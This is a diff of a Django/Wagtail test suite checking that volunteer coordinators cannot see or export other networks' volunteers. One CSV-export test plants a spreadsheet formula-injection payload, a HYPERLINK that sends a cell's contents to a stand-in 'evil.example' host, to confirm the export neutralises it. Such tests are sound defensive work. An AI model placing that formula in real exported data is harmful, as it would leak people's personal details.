@@ -1,12 +1,14 @@
 """A coordinator sees the volunteers of the networks they coordinate and
-nothing else: every admin URL of the pipeline is tried with another
-network's volunteer."""
+nothing else (:mod:`networks.admin.permissions`, the viewset's URLs): every
+admin URL of the pipeline is tried with another network's volunteer."""
 
 import csv
 import io
 
 from django.contrib.auth.models import Group, Permission
 from django.contrib.auth.models import User as DjangoUser
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 
 from wagtail.models import ModelLogEntry
 
@@ -14,15 +16,16 @@ import pytest
 
 from networks.factories import CoordinatorFactory, VolunteerFactory
 from networks.models import Volunteer
+from tests.networks.conftest import volunteer_admin
 
 pytestmark = pytest.mark.django_db
 
-BASE = "/admin/networks_volunteer"
+
 OBJECT_URLS = [
     "edit",
     "inspect",
     "history",
-    "history-results",
+    "history_results",
     "usage",
     "delete",
 ]
@@ -36,41 +39,28 @@ def assert_refused(response):
         assert response["Location"] == "/admin/"
 
 
-@pytest.fixture
-def volunteers(network_a, network_b):
-    return {
-        "a": VolunteerFactory(network=network_a, name="Alba de Tapachula"),
-        "b": VolunteerFactory(network=network_b, name="Bruno de Tenosique"),
-        "pending_a": VolunteerFactory(
-            network=network_a, name="Paula sin confirmar", confirmed_at=None
-        ),
-    }
-
-
-@pytest.fixture
-def as_a(client, coordinator_a):
-    client.force_login(coordinator_a)
-    return client
-
-
 def test_list_shows_only_own_confirmed_volunteers(as_a, volunteers):
-    html = as_a.get(f"{BASE}/").content.decode()
+    html = as_a.get(volunteer_admin("index")).content.decode()
     assert "Alba de Tapachula" in html
     assert "Bruno de Tenosique" not in html
     assert "Paula sin confirmar" not in html
 
 
-@pytest.mark.parametrize("url", [f"{BASE}/", f"{BASE}/results/"])
-def test_search_never_finds_another_networks_volunteer(as_a, volunteers, url):
-    html = as_a.get(url, {"q": "Bruno"}).content.decode()
+@pytest.mark.parametrize("view", ["index", "index_results"])
+def test_search_never_finds_another_networks_volunteer(as_a, volunteers, view):
+    html = as_a.get(volunteer_admin(view), {"q": "Bruno"}).content.decode()
     assert "Bruno de Tenosique" not in html
-    html = as_a.get(url, {"q": volunteers["b"].email}).content.decode()
+    html = as_a.get(volunteer_admin(view), {"q": volunteers["b"].email})
+    html = html.content.decode()
     assert "Bruno de Tenosique" not in html
-    assert "Alba de Tapachula" in as_a.get(url, {"q": "Alba"}).content.decode()
+    html = as_a.get(volunteer_admin(view), {"q": "Alba"}).content.decode()
+    assert "Alba de Tapachula" in html
 
 
 def test_filtering_by_another_network_shows_nothing_of_it(as_a, volunteers, network_b):
-    html = as_a.get(f"{BASE}/", {"network": network_b.pk}).content.decode()
+    html = as_a.get(
+        volunteer_admin("index"), {"network": network_b.pk}
+    ).content.decode()
     assert "Bruno de Tenosique" not in html
     # The filter only offers the coordinator's own networks.
     assert "Red Tenosique" not in html
@@ -78,7 +68,7 @@ def test_filtering_by_another_network_shows_nothing_of_it(as_a, volunteers, netw
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_export_holds_only_own_network(as_a, coordinator_a, volunteers, fmt):
-    response = as_a.get(f"{BASE}/", {"export": fmt})
+    response = as_a.get(volunteer_admin("index"), {"export": fmt})
     assert response.status_code == 200
     if response.streaming:
         content = b"".join(response.streaming_content)
@@ -105,7 +95,7 @@ def test_csv_export_never_holds_a_formula(as_a, volunteers):
         municipality="@SUM(1+1)",
         phone="+52 962 111 2222",
     )
-    response = as_a.get(f"{BASE}/", {"export": "csv"})
+    response = as_a.get(volunteer_admin("index"), {"export": "csv"})
     content = b"".join(response.streaming_content).decode("utf-8-sig")
     row = list(csv.reader(io.StringIO(content)))[1]
     assert row[0] == '\'=HYPERLINK("http://evil.example/?"&C2,"clic")'
@@ -117,40 +107,30 @@ def test_csv_export_never_holds_a_formula(as_a, volunteers):
 def test_another_networks_volunteer_is_refused_at_every_url(as_a, volunteers, view):
     volunteer = volunteers["b"]
     for method in ("get", "post"):
-        response = getattr(as_a, method)(f"{BASE}/{view}/{volunteer.pk}/")
+        response = getattr(as_a, method)(volunteer_admin(view, volunteer.pk))
         assert_refused(response)
-        followed = as_a.get(f"{BASE}/{view}/{volunteer.pk}/", follow=True)
+        followed = as_a.get(volunteer_admin(view, volunteer.pk), follow=True)
         assert "Bruno" not in followed.content.decode()
     assert Volunteer.objects.filter(pk=volunteer.pk).exists()
 
 
 @pytest.mark.parametrize("view", OBJECT_URLS)
 def test_a_pending_sign_up_is_refused_too(as_a, volunteers, view):
-    assert_refused(as_a.get(f"{BASE}/{view}/{volunteers['pending_a'].pk}/"))
+    assert_refused(as_a.get(volunteer_admin(view, volunteers["pending_a"].pk)))
 
 
 @pytest.mark.parametrize("view", ["edit", "inspect", "history", "usage"])
 def test_own_volunteer_opens(as_a, volunteers, view):
-    response = as_a.get(f"{BASE}/{view}/{volunteers['a'].pk}/")
+    response = as_a.get(volunteer_admin(view, volunteers["a"].pk))
     assert response.status_code == 200
     assert "Bruno" not in response.content.decode()
 
 
 def test_coordinators_neither_add_nor_delete_volunteers(as_a, volunteers):
-    assert as_a.get(f"{BASE}/new/").status_code in (302, 403)
-    response = as_a.post(f"{BASE}/delete/{volunteers['a'].pk}/")
+    assert as_a.get(volunteer_admin("add")).status_code in (302, 403)
+    response = as_a.post(volunteer_admin("delete", volunteers["a"].pk))
     assert response.status_code in (302, 403)
     assert Volunteer.objects.filter(pk=volunteers["a"].pk).exists()
-
-
-def test_dashboard_counts_only_own_networks(as_a, volunteers, network_a, network_b):
-    VolunteerFactory.create_batch(3, network=network_b)
-    html = as_a.get("/admin/").content.decode()
-    assert "Nuevas personas voluntarias por semana" in html or (
-        "New volunteers per week" in html
-    )
-    assert network_a.name in html
-    assert network_b.name not in html
 
 
 def test_site_history_never_lists_volunteers_to_coordinators(
@@ -172,17 +152,10 @@ def test_a_coordinator_taken_out_of_the_group_loses_access(
     coordinator_a.user_permissions.add(
         *Permission.objects.filter(codename="access_admin")
     )
-    html = as_a.get(f"{BASE}/").content.decode()
+    html = as_a.get(volunteer_admin("index")).content.decode()
     assert "Alba de Tapachula" not in html
-    assert_refused(as_a.get(f"{BASE}/edit/{volunteers['a'].pk}/"))
+    assert_refused(as_a.get(volunteer_admin("edit", volunteers["a"].pk)))
     assert list(network_a.coordinator_users()) == []
-
-
-def test_audit_log_labels_never_hold_a_name(coordinator_b, volunteers):
-    volunteers["b"].add_note("Llamada", coordinator_b)
-    entry = ModelLogEntry.objects.get(action="networks.note")
-    assert "Bruno" not in entry.label
-    assert entry.label.endswith(f"#{volunteers['b'].pk}")
 
 
 @pytest.mark.parametrize(
@@ -202,14 +175,13 @@ def test_coordinators_see_no_other_people_data(as_a, url):
 def test_a_coordinator_of_no_network_sees_no_volunteers(client, volunteers):
     user = CoordinatorFactory()
     client.force_login(user)
-    assert client.get(f"{BASE}/").status_code in (302, 403)
-    assert_refused(client.get(f"{BASE}/edit/{volunteers['a'].pk}/"))
+    assert client.get(volunteer_admin("index")).status_code in (302, 403)
+    assert_refused(client.get(volunteer_admin("edit", volunteers["a"].pk)))
     html = client.get("/admin/").content.decode()
     assert "Alba" not in html
 
 
 def test_programme_staff_with_the_permission_see_every_network(client, volunteers):
-    from django.contrib.auth.models import Permission
 
     staff = DjangoUser.objects.create_user("staff", password="x" * 12)
     group = Group.objects.create(name="Programme staff")
@@ -219,24 +191,23 @@ def test_programme_staff_with_the_permission_see_every_network(client, volunteer
     )
     staff.groups.add(group)
     client.force_login(staff)
-    html = client.get(f"{BASE}/").content.decode()
+    html = client.get(volunteer_admin("index")).content.decode()
     assert "Alba de Tapachula" in html and "Bruno de Tenosique" in html
     assert "Paula sin confirmar" not in html
     # Seeing is not editing.
-    assert client.get(f"{BASE}/edit/{volunteers['a'].pk}/").status_code in (302, 403)
+    edit = client.get(volunteer_admin("edit", volunteers["a"].pk))
+    assert edit.status_code in (302, 403)
 
 
 def test_admin_list_queries_do_not_grow_with_volunteers(
     as_a, network_a, django_assert_max_num_queries
 ):
-    from django.db import connection
-    from django.test.utils import CaptureQueriesContext
 
     VolunteerFactory.create_batch(2, network=network_a)
-    as_a.get(f"{BASE}/")
+    as_a.get(volunteer_admin("index"))
     with CaptureQueriesContext(connection) as few:
-        as_a.get(f"{BASE}/")
+        as_a.get(volunteer_admin("index"))
     VolunteerFactory.create_batch(20, network=network_a)
     with CaptureQueriesContext(connection) as many:
-        as_a.get(f"{BASE}/")
+        as_a.get(volunteer_admin("index"))
     assert len(few) == len(many)
